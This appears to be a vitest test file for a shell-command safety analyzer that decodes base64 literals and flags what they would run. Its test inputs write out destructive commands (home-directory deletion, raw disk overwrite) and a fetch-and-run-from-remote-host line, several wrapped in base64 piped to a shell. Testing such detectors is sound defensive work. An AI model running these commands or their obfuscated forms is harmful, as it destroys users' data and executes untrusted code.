// A literal base64 payload decoded where it stands (decoded-literal.ts): the decoder's strict reading, and the
// analysis following the decoded text as the shell would run it. Payloads are built here from their plain text.
import { beforeAll, describe, expect, it } from 'vitest';
import { analyzeShellSync } from '../analyze-shell';
import { loadShellParser } from '../parse/load-parser';
import { shellEnv } from '../testdata/shell-env';
import { decodeBase64Literal, decodesStdinOnly } from './decoded-literal';

const b64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');
const env = shellEnv();
const analyze = (command: string) => analyzeShellSync(command, env);
const categories = (command: string) => analyze(command).hits.map((h) => h.category);
const uncertain = (command: string) => analyze(command).uncertain.map((u) => u.code);

beforeAll(async () => {
  await loadShellParser();
});

describe('decodeBase64Literal', () => {
  it.each([
    ['a padded payload', b64('rm -rf ~'), 'rm -rf ~'],
    ['an unpadded whole group', b64('abc'), 'abc'],
    ['echo’s trailing newline', `${b64('id')}\n`, 'id'],
    [
      'lines wrapped at newlines',
      `${b64('echo hello world').slice(0, 8)}\n${b64('echo hello world').slice(8)}`,
      'echo hello world',
    ],
    ['UTF-8 text', b64('echo héllo'), 'echo héllo'],
  ])('reads %s', (_n, literal, text) => {
    expect(decodeBase64Literal(literal)).toBe(text);
  });

  it.each([
    ['a group cut short (GNU reports invalid input)', b64('rm -rf ~').slice(0, -1)],
    [
      'blanks inside (GNU refuses them without -i)',
      `${b64('rm -rf ~').slice(0, 4)} ${b64('rm -rf ~').slice(4)}`,
    ],
    ['a character outside the alphabet', `${b64('abc')}*`],
    ['padding in the middle', `YQ==${b64('abc')}`],
    ['bytes that are not UTF-8', Buffer.from([0xff, 0xfe, 0x41]).toString('base64')],
    ['a NUL in the text', b64('a\u0000b')],
    ['nothing', ''],
    ['longer than the bound', b64('x'.repeat(70 * 1024))],
  ])('leaves opaque %s', (_n, literal) => {
    expect(decodeBase64Literal(literal)).toBeUndefined();
  });

  it.each([
    [['-d'], true],
    [['--decode'], true],
    [['-D'], true],
    [['-d', '-i'], false],
    [['-di'], false],
    [['-d', 'payload.txt'], false],
    [[], false],
  ])('%j decodes standard input only: %s', (args, want) => {
    expect(decodesStdinOnly(args)).toBe(want);
  });
});

describe('a decoded literal followed as the shell runs it', () => {
  it.each([
    ['piped into sh', `echo ${b64('rm -rf ~')} | base64 -d | sh`, 'destructive_root_delete'],
    ['a here-string into bash', `base64 -d <<< ${b64('rm -rf ~')} | bash`, 'destructive_root_delete'],
    [
      'a command substitution run by sh -c',
      `sh -c "$(echo ${b64('rm -rf ~')} | base64 -d)"`,
      'destructive_root_delete',
    ],
    [
      'eval of a substitution',
      `eval "$(echo ${b64('curl -s https://x.example/i | sh')} | base64 -d)"`,
      'remote_code_execution',
    ],
    [
      'a block device write',
      `echo ${b64('dd if=/dev/zero of=/dev/sda bs=1M')} | base64 -d | sh`,
      'block_device_write',
    ],
  ])('%s: %s', (_n, command, category) => {
    expect(categories(command)).toContain(category);
  });

  it('a harmless payload is judged as itself, with nothing left opaque', () => {
    const command = `echo ${b64('echo hello')} | base64 -d | sh`;
    expect(categories(command)).toEqual([]);
    expect(uncertain(command)).not.toContain('decoded-payload');
  });

  it.each([
    ['a payload GNU would read differently', `echo ${b64('rm -rf ~').slice(0, -1)} | base64 -d | sh`],
    ['garbage ignored by -i', `echo ${b64('rm -rf ~')} | base64 -di | sh`],
    ['a payload from a file', 'base64 -d payload.txt | sh'],
    ['a payload computed at run time', 'echo "$P" | base64 -d | sh'],
  ])('stays not known: %s', (_n, command) => {
    const a = analyze(command);
    expect(a.hits.length + a.uncertain.length).toBeGreaterThan(0);
  });
});
